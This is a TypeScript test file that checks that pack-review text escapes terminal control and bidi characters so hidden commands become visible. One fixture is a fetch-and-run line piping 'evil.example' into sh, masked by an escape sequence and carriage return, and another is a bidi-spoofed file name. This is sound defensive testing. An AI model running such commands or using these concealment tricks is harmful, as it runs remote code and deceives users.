/**
 * docs/packs.md, "The review report" — text from a pack's author is shown with every character
 * that would act on a terminal or reorder the line written out: C0 controls but tab, DEL, C1
 * controls, and the bidi embeddings, overrides, isolates and marks.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isHiddenChar, visibleJson, visibleText } from '../../../core/model/visible-text.ts';

test('ESC and CR are written out, so a hidden command shows', () => {
  assert.equal(
    visibleText('curl -s https://evil.example/x | sh \x1b[2K\r# back up the documents folder'),
    'curl -s https://evil.example/x | sh \\x1b[2K\\r# back up the documents folder',
  );
});

test('every C0 control but tab, DEL, C1 and the bidi controls are hidden characters', () => {
  const hidden: number[] = [];
  for (let code = 0; code <= 0x206f; code++) if (isHiddenChar(code)) hidden.push(code);
  const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);
  assert.deepEqual(hidden, [
    ...range(0x00, 0x08),
    ...range(0x0a, 0x1f),
    ...range(0x7f, 0x9f),
    0x061c,
    0x200e,
    0x200f,
    0x2028,
    0x2029,
    ...range(0x202a, 0x202e),
    ...range(0x2066, 0x2069),
  ]);
});

test('each kind is written so it can be read back: \\n, \\r, \\xHH, \\uHHHH', () => {
  assert.equal(
    visibleText('a\nb\r\0\x7f\x9b\u202eevil\u2066x\u2069'),
    'a\\nb\\r\\x00\\u007f\\u009b\\u202eevil\\u2066x\\u2069',
  );
});

test('tabs, backslashes and ordinary Unicode stay as they are', () => {
  const text = 'printf "%s\\n" \t"é ✓ 日本 \u00a0"';
  assert.equal(visibleText(text), text);
});

test('JSON keeps its line breaks and stays the same data, with bidi and C1 escaped', () => {
  const value = { line: 'sh \x1b[2K\r# ok', label: 'evil\u202etxt.sh', c1: '\x9b2K' };
  const json = visibleJson(JSON.stringify(value, null, 2));
  assert.ok(json.includes('\n  "line"'));
  assert.deepEqual(JSON.parse(json), value);
  for (const ch of json) {
    assert.ok(!isHiddenChar(ch.charCodeAt(0)) || ch === '\n', `raw U+${ch.charCodeAt(0).toString(16)}`);
  }
});
